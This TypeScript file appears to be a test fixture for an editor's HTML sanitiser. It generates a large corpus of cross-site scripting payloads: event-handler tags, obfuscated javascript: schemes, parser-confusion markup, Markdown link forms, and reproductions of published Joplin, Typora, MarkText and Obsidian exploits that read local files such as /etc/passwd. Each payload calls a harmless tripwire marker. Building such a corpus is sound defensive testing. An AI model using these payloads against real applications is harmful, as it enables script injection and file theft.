/**
 * The injection corpus: markup and addresses that ran code in other editors, and generated combinations of the same
 * tricks. Every payload calls `__tripwire(<its number>)` (or alert/print/open, which the test also watches) if it ever
 * runs, so a hit names the payload that got through.
 */
export interface Payload {
  readonly id: number;
  /** Where it comes from: a published proof, or the family of generated combinations. */
  readonly family: string;
  readonly text: string;
}

const EVENT_HANDLERS = [
  'onerror', 'onload', 'onfocus', 'onmouseover', 'onclick', 'onanimationstart', 'onanimationend', 'ontoggle', 'onbegin',
  'onpageshow', 'onpointerenter', 'onbeforetoggle', 'onfocusin', 'onscroll', 'onloadstart', 'oncontentvisibilityautostatechange',
];

/** Tags with the attributes that make their handler fire without a click, where one exists. */
const HANDLER_TAGS: ReadonlyArray<(handler: string, call: string) => string> = [
  (h, c) => `<img src="x" ${h}="${c}">`,
  (h, c) => `<svg ${h}="${c}"><rect width="10" height="10"/></svg>`,
  (h, c) => `<body ${h}="${c}">`,
  (h, c) => `<iframe src="about:blank" ${h}="${c}"></iframe>`,
  (h, c) => `<input autofocus ${h}="${c}">`,
  (h, c) => `<details open ${h}="${c}"><summary>x</summary></details>`,
  (h, c) => `<video src="x" ${h}="${c}"></video>`,
  (h, c) => `<audio src="x" ${h}="${c}"></audio>`,
  (h, c) => `<object data="x" ${h}="${c}"></object>`,
  (h, c) => `<div style="animation:pw-spin 1s" tabindex="0" autofocus ${h}="${c}">x</div>`,
  (h, c) => `<a href="https://example.com/" ${h}="${c}">link</a>`,
  (h, c) => `<math><maction actiontype="statusline" ${h}="${c}">x</maction></math>`,
  (h, c) => `<xss id="x" tabindex="1" ${h}="${c}">x</xss>`,
  (h, c) => `<svg><animate attributeName="x" dur="1s" ${h}="${c}"/></svg>`,
  (h, c) => `<p popover id="p" ${h}="${c}">x</p>`,
];

/** Ways of writing a scheme that runs code, as filters have been fooled by them. */
const SCHEMES: ReadonlyArray<(call: string) => string> = [
  (c) => `javascript:${c}`,
  (c) => `JaVaScRiPt:${c}`,
  (c) => `java&#x09;script:${c}`,
  (c) => `java&#10;script:${c}`,
  (c) => `&#106;avascript:${c}`,
  (c) => `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${c}`,
  (c) => `javascript&colon;${c}`,
  (c) => ` &#14; javascript:${c}`,
  (c) => `%6Aavascript:${c}`,
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `data:text/html;base64,${base64(`<script>${c}</script>`)}`,
  (c) => `vbscript:${c}`,
];

/** Attributes that take an address, each on the element that honours it. */
const URL_ATTRIBUTES: ReadonlyArray<(url: string) => string> = [
  (u) => `<a href="${u}">link</a>`,
  (u) => `<map name="m"><area shape="rect" coords="0,0,10,10" href="${u}"></map>`,
  (u) => `<form action="${u}"><button>go</button></form>`,
  (u) => `<form><button formaction="${u}">go</button></form>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<embed src="${u}">`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<svg><a xlink:href="${u}"><text x="0" y="15">x</text></a></svg>`,
  (u) => `<svg><a><animate attributeName="href" values="${u}"/><text x="0" y="15">x</text></a></svg>`,
  (u) => `<math><mi href="${u}">x</mi></math>`,
  (u) => `<img src="${u}">`,
  (u) => `<meta http-equiv="refresh" content="0;url=${u}">`,
];

/** Markdown's ways to write a link or an image, and raw HTML inside Markdown. */
const MARKDOWN_FORMS: ReadonlyArray<(url: string) => string> = [
  (u) => `[link](${u})`,
  (u) => `![image](${u})`,
  (u) => `<${u}>`,
  (u) => `[ref][r]\n\n[r]: ${u}`,
  (u) => `[link](<${u}> "title")`,
];

export function payloads(): Payload[] {
  const out: Payload[] = [];
  const add = (family: string, make: (call: string) => string) => {
    const id = out.length;
    out.push({ id, family, text: make(`__tripwire(${id})`) });
  };

  // Published proofs, in the form their advisories describe.
  add('Joplin CVE-2023-38506 (pasted img onload)', (c) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${c}">`);
  add('Joplin CVE-2023-38506 (pasted img onerror)', (c) => `<img src="x" onerror="${c}">`);
  add('Joplin CVE-2025-24028 (comment confusion)', (c) => `<!-- <a title="--><img src=x onerror=${c}>"> -->`);
  add('Joplin CVE-2025-24028 (abrupt comment)', (c) => `<!--><img src=x onerror=${c}>-->`);
  add('Joplin CVE-2025-24028 (comment bang)', (c) => `<!--!><img src=x onerror=${c}>-->`);
  add('Joplin CVE-2025-24028 (dash comment)', (c) => `<!---><img src=x onerror=${c}>-->`);
  add('Joplin CVE-2025-24028 (nested comment)', (c) => `<!--<!--><img src=x onerror=${c}>-->`);
  add('MarkText CVE-2023-2318 (pasted style mXSS)', (c) => `<svg><style><img src=x onerror=${c}></style></svg>`);
  add('MarkText CVE-2023-2318 (pasted table)', (c) => `<table><tr><td><img src=x onerror="${c}"></td></tr></table>`);
  add('Typora CVE-2023-2317 (embed of the updater page)', (c) => `<embed src="typora://app/typemark/updater/updater.html?curVersion=111&newVersion=222&releaseNoteLink=111&hideAutoUpdates=false&labels=[%22%22,%22%3csvg%2fonload=${encodeURIComponent(c)}%3e%22,%22%22,%22%22,%22%22,%22%22]">`);
  add('Typora CVE-2023-2317 (iframe of the updater page)', (c) => `<iframe src="typora://app/typemark/updater/updater.html?labels=[%22%3cimg src=x onerror=${encodeURIComponent(c)}%3e%22]"></iframe>`);
  add('Obsidian CVE-2023-2110 (iframe of a local file)', () => `<iframe src="app://local/%2Fetc%2Fpasswd"></iframe>`);
  add('Obsidian CVE-2023-2110 (img of a local file)', (c) => `<img src="app://local/etc/passwd" onload="${c}" onerror="${c}">`);
  add('Obsidian CVE-2023-2110 (file URL)', (c) => `<iframe src="file:///etc/passwd" onload="${c}"></iframe>`);

  // Script and the elements that run or fetch it.
  for (const make of [
    (c: string) => `<script>${c}</script>`,
    (c: string) => `<script src="data:text/javascript,${encodeURIComponent(c)}"></script>`,
    (c: string) => `<SCRIPT>${c}</SCRIPT>`,
    (c: string) => `<scr<script>ipt>${c}</scr</script>ipt>`,
    (c: string) => `<svg><script>${c}</script></svg>`,
    (c: string) => `<svg><script href="data:text/javascript,${encodeURIComponent(c)}"/></svg>`,
    (c: string) => `<math><script>${c}</script></math>`,
    (c: string) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
    (c: string) => `<iframe srcdoc="&lt;img src=x onerror=parent.${c}&gt;"></iframe>`,
    (c: string) => `<base href="javascript:${c}//"><a href="x">relative</a>`,
    (c: string) => `<base href="https://evil.test/"><script src="x.js"></script><a href="/">${c}</a>`,
    (c: string) => `<meta http-equiv="refresh" content="0;url=javascript:${c}">`,
    (c: string) => `<meta http-equiv="refresh" content="0;url=https://evil.test/${c}">`,
    (c: string) => `<link rel="import" href="data:text/html,<script>${c}</script>">`,
    (c: string) => `<link rel="stylesheet" href="javascript:${c}">`,
    (c: string) => `<style>@import 'javascript:${c}';</style>`,
    (c: string) => `<div style="background:url(javascript:${c})">x</div>`,
    (c: string) => `<div style="width:expression(${c})">x</div>`,
    (c: string) => `<div style="behavior:url(x.htc);-moz-binding:url(data:text/xml,${c})">x</div>`,
    (c: string) => `<template><img src=x onerror=${c}></template>`,
    (c: string) => `<template shadowrootmode="open"><img src=x onerror=${c}></template>`,
    (c: string) => `<noscript><p title="</noscript><img src=x onerror=${c}>"></noscript>`,
    (c: string) => `<noembed><img title="</noembed><img src=x onerror=${c}>"></noembed>`,
    (c: string) => `<noframes><p title="</noframes><img src=x onerror=${c}>"></noframes>`,
    (c: string) => `<xmp><p title="</xmp><img src=x onerror=${c}>"></xmp>`,
    (c: string) => `<textarea><p title="</textarea><img src=x onerror=${c}>"></textarea>`,
    (c: string) => `<title><p title="</title><img src=x onerror=${c}>"></title>`,
    (c: string) => `<iframe><p title="</iframe><img src=x onerror=${c}>"></iframe>`,
    (c: string) => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`,
    (c: string) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}></style></mglyph></table></mtext></math>`,
    (c: string) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${c}>"></style></mtext></svg></mglyph></h1></mtext></math>`,
    (c: string) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${c}>`,
    (c: string) => `<svg><foreignObject><img src=x onerror=${c}></foreignObject></svg>`,
    (c: string) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${c}'/></svg>#x"/></svg>`,
    (c: string) => `<svg><set attributeName="onmouseover" to="${c}"/></svg>`,
    (c: string) => `<svg><animate onbegin="${c}" attributeName="x" dur="1s"/></svg>`,
    (c: string) => `<object data="data:text/html,<script>${c}</script>"></object>`,
    (c: string) => `<embed src="data:text/html,<script>${c}</script>">`,
    (c: string) => `<isindex action="javascript:${c}" type="image">`,
    (c: string) => `<input type="image" src="x" onerror="${c}">`,
    (c: string) => `<select autofocus onfocus="${c}"><option>x</option></select>`,
    (c: string) => `<textarea autofocus onfocus="${c}">x</textarea>`,
    (c: string) => `<keygen autofocus onfocus="${c}">`,
    (c: string) => `<marquee onstart="${c}">x</marquee>`,
    (c: string) => `<body onpageshow="${c}">`,
    (c: string) => `<frameset onload="${c}">`,
    (c: string) => `<img src=x onerror=${c}//`,
    (c: string) => `<img/src=x/onerror=${c}>`,
    (c: string) => `<img src=x onerror\u000C=${c}>`,
    (c: string) => `<img src="x" onerror ="${c}">`,
    (c: string) => `<img src=\`x\` onerror=${c}>`,
    (c: string) => `<img """><script>${c}</script>">`,
    (c: string) => `<a href="https://example.com/" id="x" style="display:block;position:fixed;inset:0" onmouseover="${c}">cover</a>`,
    (c: string) => `"><img src=x onerror=${c}>`,
    (c: string) => `'><img src=x onerror=${c}>`,
    (c: string) => `</p></li></ul></section></main></body><img src=x onerror=${c}>`,
    (c: string) => `]]><img src=x onerror=${c}>`,
    (c: string) => `<![CDATA[<img src=x onerror=${c}>]]>`,
    (c: string) => `<?xml-stylesheet href="javascript:${c}"?>`,
    (c: string) => `&lt;img src=x onerror=${c}&gt;`,
    (c: string) => `\u003cimg src=x onerror=${c}\u003e`,
    (c: string) => `＜img src=x onerror=${c}＞`,
    (c: string) => `<a href="\u2028javascript:${c}">line separator</a>`,
    (c: string) => `<a href="ｊａｖａｓｃｒｉｐｔ:${c}">fullwidth</a>`,
    (c: string) => `<a href="java\u0000script:${c}">nul</a>`,
    (c: string) => `<a href="javascript\u200B:${c}">zero width</a>`,
    (c: string) => `<a href="https://example.com/&quot; onmouseover=&quot;${c}">quote</a>`,
    (c: string) => `<a href='https://example.com/"><img src=x onerror=${c}>'>attribute break</a>`,
    (c: string) => `<a href="mailto:a@b?attach=/etc/passwd&body=${encodeURIComponent(c)}">attach</a>`,
    (c: string) => `<a href="http://user:pw@evil.test/${c}">credentials</a>`,
    (c: string) => `{{constructor.constructor('${c}')()}}`,
    (c: string) => `\${${c}}`,
    (c: string) => `{{__proto__}}<img src=x onerror=${c}>`,
  ]) {
    add('script, embedded content and parser confusion', make);
  }

  for (const handler of EVENT_HANDLERS) for (const tag of HANDLER_TAGS) add(`${handler} handler`, (c) => tag(handler, c));
  for (const scheme of SCHEMES) for (const attribute of URL_ATTRIBUTES) add('code-running address', (c) => attribute(scheme(c)));
  for (const scheme of SCHEMES) for (const form of MARKDOWN_FORMS) add('Markdown link form', (c) => form(scheme(c)));
  return out;
}

function base64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64');
}
